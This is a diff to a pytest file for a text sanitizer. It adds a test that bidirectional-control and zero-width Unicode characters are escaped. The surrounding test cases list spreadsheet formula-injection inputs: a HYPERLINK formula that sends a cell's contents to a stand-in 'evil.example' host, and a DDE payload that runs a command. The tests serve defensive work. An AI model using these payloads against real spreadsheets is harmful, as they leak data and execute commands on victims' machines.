@@ -28,6 +28,14 @@ def test_clean(text, shown):
     assert sanitize.clean(shown) == shown
 
 
+@pytest.mark.parametrize("char", ["\u202a", "\u202e", "\u2066", "\u2069", "\u200b", "\u200f",
+                                  "\u2060", "\u2064", "\ufeff", "\u061c"])
+def test_bidirectional_and_zero_width_characters_are_shown_escaped(char):
+    shown = sanitize.clean(f"score{char}001")
+    assert shown == f"score\\u{ord(char):04x}001" and char not in shown
+    assert sanitize.clean(shown) == shown
+
+
 @pytest.mark.parametrize("text, cell", [
     ('=HYPERLINK("http://evil.example/?"&A1,"click")', '\'=HYPERLINK("http://evil.example/?"&A1,"click")'),
     ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
